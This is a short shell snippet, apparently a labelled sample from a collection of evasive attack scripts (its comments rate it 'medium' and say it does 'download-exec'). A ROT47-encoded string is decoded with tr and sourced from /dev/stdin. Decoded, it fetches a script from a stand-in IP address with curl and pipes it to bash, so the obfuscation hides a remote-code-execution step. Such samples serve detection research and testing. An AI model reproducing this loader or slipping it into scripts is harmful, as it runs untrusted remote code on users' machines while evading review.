# evasion: the script is ROT47-encoded, decoded by one tr range map and sourced from /dev/stdin
# grade: medium; does: download-exec
enc='4FC= \7D${ 9EEAi^^a_b]_]``b]d^:]D9 M 32D9'
tr '!-~' 'P-~!-O' <<<"$enc" | . /dev/stdin
